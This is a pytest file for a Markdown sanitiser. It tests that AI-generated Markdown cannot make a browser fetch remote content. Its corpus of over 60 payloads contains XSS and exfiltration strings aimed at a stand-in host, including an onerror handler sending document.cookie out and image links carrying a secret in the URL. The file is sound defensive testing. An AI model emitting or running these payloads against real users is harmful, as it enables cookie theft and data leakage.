"""safe_markdown: the model's Markdown makes the browser fetch nothing by itself.

The final judge is a real renderer with raw HTML on: markdown-it-py when installed,
mistune (nbconvert's renderer) when installed, and markdown-it (the widgets' JS renderer,
through node) when node and js/node_modules are there. At least one must run.
"""

from __future__ import annotations

import json
import random
import shutil
import subprocess
import time
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest

from a3s_notebook._markdown import safe_markdown

JS_DIR = Path(__file__).resolve().parent.parent / "js"

# tags a Markdown renderer makes itself; anything else came from raw HTML
ALLOWED_TAGS = {
    "p", "a", "code", "pre", "em", "strong", "h1", "h2", "h3", "h4", "h5", "h6", "ul",
    "ol", "li", "blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td",
    "del", "s",
}  # fmt: skip
ALLOWED_ATTRS = {"href", "title", "class", "start", "align", "style"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.bad.append(f"<{tag}>")
        self.bad.extend(f"{tag}[{k}]" for k, _ in attrs if k not in ALLOWED_ATTRS)

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.bad.append("<!--comment-->")

    def handle_pi(self, data: str) -> None:
        self.bad.append("<?pi>")

    def handle_decl(self, decl: str) -> None:
        self.bad.append("<!decl>")


def raw_html_in(html: str) -> list[str]:
    """Tags, attributes, comments a renderer would only emit from raw HTML."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.bad


def _judges() -> dict[str, Callable[[list[str]], list[str]]]:
    judges: dict[str, Callable[[list[str]], list[str]]] = {}
    try:
        from markdown_it import MarkdownIt

        md = MarkdownIt("commonmark", {"html": True}).enable("table")
        judges["markdown-it-py"] = lambda docs: [md.render(d) for d in docs]
    except ImportError:
        pass
    try:
        import mistune

        # escape=False: raw HTML passes through; "url" links bare URLs as GFM does
        mis = mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"])
        judges["mistune"] = lambda docs: [str(mis(d)) for d in docs]
    except ImportError:
        pass
    node = shutil.which("node")
    if node and (JS_DIR / "node_modules" / "markdown-it").is_dir():
        script = (
            'const M=require("markdown-it");const md=new M({html:true});let d="";'
            'process.stdin.on("data",c=>d+=c);process.stdin.on("end",()=>'
            "process.stdout.write(JSON.stringify(JSON.parse(d).map(x=>md.render(x)))))"
        )

        def render_js(docs: list[str]) -> list[str]:
            done = subprocess.run(
                [node, "-e", script],
                input=json.dumps(docs),
                capture_output=True,
                text=True,
                cwd=JS_DIR,
                check=True,
                timeout=120,
            )
            return list(json.loads(done.stdout))

        judges["markdown-it (js)"] = render_js
    return judges


JUDGES = _judges()


def assert_nothing_loads(docs: list[str]) -> None:
    assert JUDGES, "no Markdown renderer available to judge the output"
    safe = [safe_markdown(d) for d in docs]
    for name, render in JUDGES.items():
        for doc, out, html in zip(docs, safe, render(safe), strict=True):
            bad = raw_html_in(html)
            assert not bad, f"{name}: {bad}\n input: {doc!r}\noutput: {out!r}\n  html: {html!r}"


def test_the_judge_sees_raw_html_and_images() -> None:
    # the judges must catch what safe_markdown prevents
    for render in JUDGES.values():
        assert raw_html_in(render(["x <img src=a> ![b](c)"])[0]).count("<img>") == 2


# --- the payload corpus ---------------------------------------------------------------------

PAYLOADS = [
    "<img src=https://h/?q=secret>",
    "<IMG SRC=https://h/x.png>",
    "<img\nsrc=https://h/x.png>",
    '<img src="x" onerror="fetch(\'https://h/\'+document.cookie)">',
    "<script>fetch('https://h/')</script>",
    "<iframe src=https://h/></iframe>",
    '<a href="https://h/">click</a>',
    "<!-- a comment --> text",
    "<?xml version='1.0'?>",
    "<!DOCTYPE html>",
    "<![CDATA[ x ]]>",
    "<svg onload=alert(1)>",
    "<svg><image href=https://h/x /></svg>",
    "<video poster=https://h/p.png></video>",
    '<div style="background:url(https://h/)">x</div>',
    "<details open ontoggle=alert(1)>",
    "<object data=https://h/></object>",
    "<link rel=stylesheet href=https://h/s.css>",
    "![x](https://h/?q=secret)",
    '![x](https://h/i.png "title")',
    "![x](<https://h/a b>)",
    "![x]( https://h/i.png )",
    "![alt][ref]\n\n[ref]: https://h/i.png",
    "![alt][]\n\n[alt]: https://h/i.png 'T'",
    "![alt]\n\n[alt]: <https://h/a b>",
    "![ALT]\n\n[alt]: https://h/case.png",
    "> ![q](https://h/q.png)\n>\n> [r]: https://h/r.png",
    "![![nested](https://h/1.png)](https://h/2.png)",
    "[![badge](https://h/b.svg)](https://h/)",
    "!![x](https://h/double.png)",
    "![x\\]y](https://h/esc.png)",
    "![a [b] c](https://h/brackets.png)",
    "\\![not an image](https://h/)",
    "&lt;img src=https://h/&gt;",
    "&#60;img src=https://h/&#62;",
    "&#x3C;script&#x3E;",
    "<https://h/autolink>",
    "<mailto:a@b.co>",
    "<a@b.co>",
    "<javascript:alert(1)>",
    "<http://a`b> `<img src=x>`",
    "http://a`b <img src=x>`",
    "www.h.test/`x <img src=x>`",
    "[a](http://x/`y) `<img src=x>`",
    "](http://x/`y) `<img src=x>`",
    "`a\nb` <img src=x> `",
    "| a | b |\n|---|---|\n| `x | <img src=y>` | z |",
    "- item\n  ```\n<img src=x>\n```\n<img src=y>",
    "  ```\n<img src=x>\n  ```\n<img src=y>",
    "```\n<img src=x>\n    ```\n<img src=y>",
    "- a\n\n    <img src=x>",
    "para\n    <img src=x>",
    "> ```\n> <img src=x>\n<img src=y>",
    "~~~\n<img src=x>",
    "``` `x`\n<img src=x>\n```",
    "# heading <img src=x>\n\nSetext <img src=y>\n===",
    "[x]: https://h/`y\n<img src=z>`",
    '[x]: /u "title\n<img src=z>"',
    "<img src=x>\r<img src=y>\r\n<img src=z>",
    "*<img src=x>* __<b>__",
]


def test_payload_corpus_loads_nothing() -> None:
    assert len(PAYLOADS) >= 60
    assert_nothing_loads(PAYLOADS)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a <img src=x> b", "a &lt;img src=x> b"),
        ("<!-- c -->", "&lt;!-- c -->"),
        ("![x](https://h/?q=secret)", "[image: x](https://h/?q=secret)"),
        ('![x](https://h/i.png "t")', '[image: x](https://h/i.png "t")'),
        ("![x](<https://h/a b>)", "[image: x](https://h/a%20b)"),
        (
            "![alt][r]\n\n[r]: https://h/i.png",
            "[image: alt](https://h/i.png)\n\n[r]: https://h/i.png",
        ),
        (
            "![alt][]\n\n[alt]: https://h/i.png",
            "[image: alt](https://h/i.png)\n\n[alt]: https://h/i.png",
        ),
        (
            "![alt]\n\n[alt]: https://h/i.png",
            "[image: alt](https://h/i.png)\n\n[alt]: https://h/i.png",
        ),
        ("![alt][nowhere]", "[image: alt][nowhere]"),
        ("![alt]", "[image: alt]"),
        ("!![x](u)", "&#33;[image: x](u)"),
        ("![unclosed", "!&#91;unclosed"),
        ("\\![not](u)", "&#33;[not](u)"),
        ("[![b](https://h/b.svg)](https://h/)", "[[image: b](https://h/b.svg)](https://h/)"),
        ("<https://example.com> and <a@b.co>", "<https://example.com> and <a@b.co>"),
        ("x < y and a<b", "x &lt; y and a&lt;b"),
    ],
)
def test_rewrites(text: str, expected: str) -> None:
    assert safe_markdown(text) == expected


# --- code and ordinary Markdown are left alone ------------------------------------------------

UNTOUCHED = [
    '# Title\n\nSome **bold**, _em_, `code`, a [link](https://x.test/a_(b) "t").',
    "Use `<div>` and `a < b` and ``x ` y``.",
    "```html\n<img src=x>\n<script>alert(1)</script>\n```",
    "~~~\n<iframe src=x>\n~~~",
    "Para.\n\n    <indented code with <img>>\n    more\n\nAfter.",
    "1. step\n   ```bash\n   echo $((1<2)) > out.txt\n   ```\n2. next",
    "- a\n- b\n  - c\n\n> quote\n> more",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "Line with trailing spaces  \nnext line\\\nand a hard break",
    "A [ref link][r] and [r].\n\n[r]: https://x.test",
    "Ellipsis... and ! marks! and [brackets] and (parens).",
    "- [ ] task\n- [x] done",
    "",
]


@pytest.mark.parametrize("text", UNTOUCHED)
def test_ordinary_markdown_and_code_are_untouched(text: str) -> None:
    assert safe_markdown(text) == text


def test_code_inside_lists_keeps_angle_brackets() -> None:
    text = "1. Install:\n   ```cpp\n   std::vector<int> v;\n   ```\n2. Run `a<b`"
    assert safe_markdown(text) == text


def test_ambiguous_fences_fall_back_to_escaping() -> None:
    # a fence whose content is less indented than the fence: inside a list that line
    # ends the list (and the fence), at the top level it is code; escape from there on
    out = safe_markdown("- item\n  ```\n<img src=x>\n```\n<img src=y>")
    assert "<img" not in out
    assert out.startswith("- item\n  ```\n")


# --- fuzzing ----------------------------------------------------------------------------------

FRAGMENTS = [
    "<img src=x>", "<IMG SRC=x>", "<img\nsrc=x>", "`", "``", "```", "~~~", "\n", "\n\n",
    "    ", "  ", "   ", "\t", "- ", "1. ", "> ", "![a](b)", "![a]", "![a][]", "![a][r]",
    "[r]: /u", "[a]: /u", "](", "[", "]", "(", ")", "<", ">", "\\", "!", "|", "|---|",
    "<https://a.b>", "<a@b.co>", '"', "'", "x", "y z", " ", "&lt;", "<!--", "-->",
    "<svg onload=alert(1)>", "#", "*", "<a href=x>", "</p>", "<script>", "![x](<h a>)",
    '[t](h "ti")', "<http://a`b>", "![", "](<", "<x", ":", "=", "---", "===", "&#60;img&#62;",
    "\n  ```\n", "\n   ~~~\n", "\n- a\n  ```\n", "\n1. a\n   ```\n", "\n    ", "\n\t",
    "\n> ```\n", "\n      ```", "\n```\n", "\n````\n", "http://h.x/`", "www.a.b`", " `<b>` ",
    "\n| a | b |\n|---|---|\n", "\n\n    <img src=z>\n",
]  # fmt: skip


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_random_documents_load_nothing(seed: int) -> None:
    rnd = random.Random(seed)
    docs = ["".join(rnd.choice(FRAGMENTS) for _ in range(rnd.randint(1, 25))) for _ in range(1500)]
    assert_nothing_loads(docs)


def test_long_answers_are_fast() -> None:
    block = "Some text with `code` and a [link](https://x.test). <b>x</b> ![i](u)\n" * 20
    text = (block + "```python\nprint('<hi>')\n```\n\n") * 80  # ~120 KB
    start = time.perf_counter()
    out = safe_markdown(text)
    assert time.perf_counter() - start < 2.0
    assert "<b>" not in out and "![" not in out and "print('<hi>')" in out
